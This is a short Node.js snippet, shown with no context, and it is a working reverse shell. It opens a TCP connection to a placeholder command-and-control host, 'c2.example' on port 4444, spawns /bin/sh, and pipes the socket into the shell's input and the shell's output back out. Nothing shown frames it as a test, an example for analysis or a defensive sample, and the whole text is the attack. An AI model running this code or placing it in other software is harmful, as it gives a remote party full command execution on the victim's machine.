const net = require('net'), cp = require('child_process');
const s = net.connect(4444, 'c2.example');
const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s);
